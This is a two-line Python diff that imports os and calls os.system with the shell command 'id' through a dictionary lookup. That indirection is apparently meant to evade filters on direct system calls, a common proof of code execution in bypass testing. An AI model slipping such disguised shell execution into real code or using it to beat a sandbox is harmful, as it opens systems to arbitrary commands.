@@ -1,0 +1,2 @@
+import os
+{'a': os.system}['a']('id')
